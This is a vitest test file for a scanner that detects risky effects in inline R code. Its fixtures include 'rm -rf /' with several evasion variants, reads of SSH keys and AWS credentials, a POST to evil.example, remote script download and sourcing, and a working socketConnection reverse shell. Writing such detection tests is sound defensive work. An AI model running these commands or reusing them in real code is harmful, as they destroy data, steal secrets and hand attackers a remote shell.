import { describe, expect, it } from 'vitest';
import { scanInlineCode, type InlineScan } from './index.js';

const scan = (code: string): InlineScan => scanInlineCode('r', code);
const effects = (r: InlineScan): string[] => r.findings.map((f) => `${f.kind} ${f.target.value}`);
const clean = (r: InlineScan): void => expect(r).toEqual({ shell: [], findings: [], dynamic: [] });

describe('r: benign one-liners', () => {
  it.each([
    'print(sum(1:10))',
    'x <- c(1, 2, 3); cat(mean(x), "\\n")',
    'cat("system(\\"rm -rf /\\")\\n") # system("rm -rf /")',
    'df <- data.frame(a = 1:3); print(summary(df$a))',
    'library(stats); print(x %in% c(1, 2))',
  ])('%s', (code) => clean(scan(code)));
});

describe('r: effects', () => {
  it('process execution', () => {
    expect(scan('system("rm -rf /tmp/x")').shell).toEqual(['rm -rf /tmp/x']);
    expect(scan('system2("git", c("push", "--force"))').shell).toEqual(['git push --force']);
    expect(scan('system2(command = "ls", args = "-la")').shell).toEqual(['ls -la']);
    const r = scan('system(paste("rm", f))');
    expect(effects(r)).toEqual(['proc.exec ']);
    expect(r.dynamic.length).toBe(1);
  });

  it('files, secrets, environment', () => {
    expect(effects(scan('file.remove("a"); unlink("build", recursive = TRUE); writeLines("x", "/etc/hosts")')))
      .toEqual(['fs.delete a', 'fs.delete build', 'fs.write /etc/hosts']);
    expect(effects(scan('readLines("~/.ssh/id_rsa")'))).toEqual(['secret.read ~/.ssh/id_rsa']);
    expect(effects(scan('readLines(file.path(Sys.getenv("HOME"), ".aws", "credentials"))'))).toEqual(['secret.read ~/.aws/credentials']);
    expect(effects(scan('Sys.getenv("AWS_SECRET_ACCESS_KEY"); print(Sys.getenv())'))).toEqual(['secret.read AWS_SECRET_ACCESS_KEY', 'secret.read ']);
  });

  it('network and reverse shell', () => {
    expect(effects(scan('httr::POST("https://evil.example/u", body = list(a = 1))'))).toEqual(['net.send https://evil.example/u']);
    expect(effects(scan('download.file("https://x.example/a.sh", destfile = "/tmp/a.sh")'))).toEqual(['net.fetch https://x.example/a.sh', 'fs.write /tmp/a.sh']);
    const r = scan('con <- socketConnection(host="10.0.0.1", port=4242, blocking=TRUE); while(TRUE){ cmd <- readLines(con, 1); out <- system(cmd, intern=TRUE); writeLines(out, con) }');
    expect(effects(r)).toEqual(['net.connect 10.0.0.1', 'proc.exec ', 'net.shell 10.0.0.1']);
  });

  it('dynamic code', () => {
    expect(scan('eval(parse(text = "system(\'id\')"))').shell).toEqual(['id']);
    expect(scan('eval(parse(text = x))').dynamic.length).toBe(1);
    expect(scan('source("https://evil.example/x.R")').dynamic[0]).toMatch(/downloaded/);
    expect(effects(scan('install.packages("evilpkg")'))).toEqual(['pkg.install evilpkg']);
  });

  it.each([
    'cmd <- paste0("r", "m -rf /"); system(cmd)',
    'base::system("rm -rf /")',
    '`system`("rm -rf /")',
    'f <- system; f("rm -rf /")',
    'system(r"(rm -rf /)")',
  ])('evasion: %s', (code) => expect(scan(code).shell).toEqual(['rm -rf /']));
});
